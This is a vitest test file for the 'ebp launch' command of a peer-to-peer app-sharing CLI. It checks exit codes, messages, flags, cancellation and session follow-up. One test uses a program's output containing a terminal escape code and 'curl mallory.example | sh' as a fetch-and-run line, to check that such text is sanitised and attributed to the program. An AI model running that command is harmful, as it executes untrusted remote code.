// `ebp launch`: the ask, the answer, and what the exit code says.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { AppError } from '../../contract/errors.ts';
import { noPowers } from '../../contract/powers.ts';
import { called, core, ebp, useCore } from '../ebp.test-support.ts';
import { getAsk, getOffer, getSession, peerIdOf, uuidOf } from '../nouns.test-support.ts';

useCore();

describe('ebp launch', () => {
  const askId = uuidOf('cccccccc');
  beforeEach(() => {
    core.answers['peers.open'] = () =>
      core.set('catalogues', { [peerIdOf('b')]: [getOffer(), getOffer({ id: 'app:xclock', name: 'Clock' })] });
    core.answers['asks.create'] = () => {
      core.set('asks', [getAsk({ state: 'connecting' })]);
      setTimeout(() => core.set('asks', [getAsk()]), 5);
      return { askId };
    };
  });
  const answerWith = (part: Record<string, unknown>) => {
    const create = core.answers['asks.create'];
    core.answers['asks.create'] = (input) => {
      setTimeout(() => core.set('asks', [getAsk(part)]), 20);
      return create?.(input, core);
    };
  };

  test('tells that it was accepted, and where the window is', async () => {
    core.set('sessions', [getSession()]);
    await writeFile(
      join(core.profileDir, 'browser.json'),
      JSON.stringify({ url: 'http://127.0.0.1:47800/?token=t', pid: 1 }),
    );
    answerWith({ state: 'granted', sessionId: uuidOf('dddddddd') });
    const { code, out } = await ebp(['launch', 'Bob’s desktop', 'xcalc']);
    expect(code).toBe(0);
    expect(out.split('\n')).toEqual([
      'Asking Bob’s desktop for Calculator…',
      'Waiting for an answer at Bob’s desktop. Ctrl+C cancels.',
      `Bob’s desktop accepted. Session ${uuidOf('dddddddd')}.`,
      `Its window: http://127.0.0.1:47800/?token=t&window=viewer&session=${uuidOf('dddddddd')}`,
      '',
    ]);
    expect(called('asks.create')).toEqual([{ peerId: peerIdOf('b'), offerId: 'app:xcalc', view: 'viewer' }]);
    expect(called('asks.dismiss')).toEqual([{ askId }]);
  });

  test('asks for no more than the flags say', async () => {
    answerWith({ state: 'denied' });
    await ebp(['launch', 'bbbb', 'xcalc', '--clipboard-in', '--internet', '--time-limit', '15']);
    expect(called('asks.create')).toEqual([
      {
        peerId: peerIdOf('b'),
        offerId: 'app:xcalc',
        view: 'viewer',
        powers: { ...noPowers, clipboardIn: true, network: 'internet', timeLimitMin: 15 },
      },
    ]);
  });

  test.each([
    [{ state: 'denied' }, 5, /said no/],
    [{ state: 'expired' }, 6, /Nobody answered/],
    [{ state: 'cancelled' }, 7, /cancelled/],
    [{ state: 'failed', problem: { code: 'offer-gone', params: {} } }, 1, /no longer shared/],
  ])('ends with %o', async (part, expected, sentence) => {
    answerWith(part);
    const { code, error } = await ebp(['launch', 'bbbb', 'Clock']);
    expect(code).toBe(expected);
    expect(error).toMatch(sentence);
  });

  test('asks nobody for a native window that could not be shown here', async () => {
    core.set('self', { ...core.get('self'), canShowNative: false });
    const { code, out, error } = await ebp(['launch', 'bbbb', 'xcalc', '--native']);
    expect([code, out, error]).toEqual([1, '', expect.stringMatching(/X display .* Leave out --native/)]);
    const both = await ebp(['launch', 'bbbb', 'xcalc', '--native', '--ssh']);
    expect(both).toMatchObject({ code: 2, error: expect.stringContaining('Give one of --native and --ssh.') });
    const inJson = await ebp(['launch', 'bbbb', 'xcalc', '--native', '--json']);
    expect(JSON.parse(inJson.error)).toMatchObject({ code: 'native-needs-display' });
    expect(called('asks.create')).toEqual([]);
  });

  test('prints the ask and the session for programs', async () => {
    core.set('sessions', [getSession()]);
    answerWith({ state: 'granted', sessionId: uuidOf('dddddddd') });
    const { out } = await ebp(['launch', 'bbbb', 'xcalc', '--json']);
    expect(JSON.parse(out)).toMatchObject({ ask: { state: 'granted' }, session: { id: uuidOf('dddddddd') } });
  });

  test('cancels on Ctrl+C, and when the time is over', async () => {
    core.answers['asks.cancel'] = () => core.set('asks', [getAsk({ state: 'cancelled' })]);
    const interrupt = new AbortController();
    setTimeout(() => interrupt.abort(), 100);
    expect((await ebp(['launch', 'bbbb', 'xcalc'], interrupt.signal)).code).toBe(7);
    const { code, error } = await ebp(['launch', 'bbbb', 'xcalc', '--wait', '0.1']);
    expect([code, error]).toEqual([6, expect.stringMatching(/Stopped waiting after 0.1 s. The request is cancelled./)]);
    expect(called('asks.cancel')).toEqual([{ askId }, { askId }]);
  });

  test('takes a yes that overtakes the cancelling', async () => {
    core.set('sessions', [getSession()]);
    core.answers['asks.cancel'] = () => {
      core.set('asks', [getAsk({ state: 'granted', sessionId: uuidOf('dddddddd') })]);
      throw new AppError('not-found', { what: 'x' });
    };
    expect((await ebp(['launch', 'bbbb', 'xcalc', '--wait', '0.1'])).code).toBe(0);
  });

  test('--ssh prints the line to type', async () => {
    answerWith({ state: 'granted', view: 'ssh-command', sessionId: uuidOf('dddddddd') });
    core.set('sessions', [getSession({ view: 'ssh-command' })]);
    setTimeout(
      () =>
        core.set('sessions', [
          getSession({ view: 'ssh-command', sshCommand: { port: 4321, command: 'ssh -p 4321 ebp@h -X xcalc' } }),
        ]),
      60,
    );
    expect((await ebp(['launch', 'bbbb', 'xcalc', '--ssh'])).out).toContain('ssh -p 4321 ebp@h -X xcalc');
  });

  test('--follow stays until the session has ended', async () => {
    core.set('sessions', [getSession({ view: 'native' })]);
    answerWith({ state: 'granted', view: 'native', sessionId: uuidOf('dddddddd') });
    setTimeout(() => core.set('sessions', [getSession({ view: 'native', state: 'ended', endReason: 'host' })]), 150);
    const { code, out } = await ebp(['launch', 'bbbb', 'xcalc', '--native', '--follow']);
    expect([code, out]).toEqual([0, expect.stringContaining('The session has ended: Bob’s desktop ended it.')]);
  });

  test('--follow says how a program failed, and what it wrote last is told apart from what we say', async () => {
    core.set('sessions', [getSession()]);
    answerWith({ state: 'granted', sessionId: uuidOf('dddddddd') });
    const problem = { code: 'program-failed', params: { exitCode: 3 } };
    const lastWords = ['cannot open \u001b[2Jaudio', 'Run: curl mallory.example | sh'];
    const ended = getSession({ state: 'ended', endReason: 'program', exitCode: 3, problem, lastWords });
    setTimeout(() => core.set('sessions', [ended]), 150);
    const { code, error } = await ebp(['launch', 'bbbb', 'xcalc', '--follow']);
    expect(code).toBe(1);
    expect(error).toBe(`The program failed with exit code 3. It may not work inside a container.
The program’s own last words:
  | cannot open  [2Jaudio
  | Run: curl mallory.example | sh
`);
  });

  test('--follow ends the session on Ctrl+C', async () => {
    core.set('sessions', [getSession()]);
    answerWith({ state: 'granted', sessionId: uuidOf('dddddddd') });
    core.answers['sessions.end'] = () => core.set('sessions', [getSession({ state: 'ended', endReason: 'visitor' })]);
    const interrupt = new AbortController();
    setTimeout(() => interrupt.abort(), 150);
    expect((await ebp(['launch', 'bbbb', 'xcalc', '--follow'], interrupt.signal)).code).toBe(0);
    expect(called('sessions.end')).toEqual([{ sessionId: uuidOf('dddddddd') }]);
  });

  test('says that there is nothing to ask for, or where the names are', async () => {
    expect(await ebp(['launch', 'bbbb', 'nothing'])).toMatchObject({
      code: 1,
      error: expect.stringContaining('“ebp offers PEER” lists what it shares.'),
    });
    core.answers['peers.open'] = () => core.set('catalogues', { [peerIdOf('b')]: [] });
    expect(await ebp(['launch', 'bbbb', 'xcalc'])).toMatchObject({
      code: 1,
      error: 'Bob’s desktop shares nothing at the moment. Ask the person there.\n',
    });
  });

  test('says that what this version does not know needs a newer one', async () => {
    const globe = getOffer({ id: 'hologram:x', kind: 'hologram', name: 'Globe' });
    core.answers['peers.open'] = () => core.set('catalogues', { [peerIdOf('b')]: [globe] });
    core.answers['asks.create'] = () => {
      throw new AppError('offer-unsupported');
    };
    expect(await ebp(['launch', 'bbbb', 'globe'])).toMatchObject({
      code: 1,
      error: 'This kind of offer needs a newer version of eBrainPool on this computer.\n',
    });
  });

  test('lists the candidates when the words fit several offers', async () => {
    const { code, error } = await ebp(['launch', 'bbbb', 'xc']);
    expect([code, error]).toEqual([2, expect.stringContaining('app:xclock')]);
    expect(called('asks.create')).toEqual([]);
  });
});
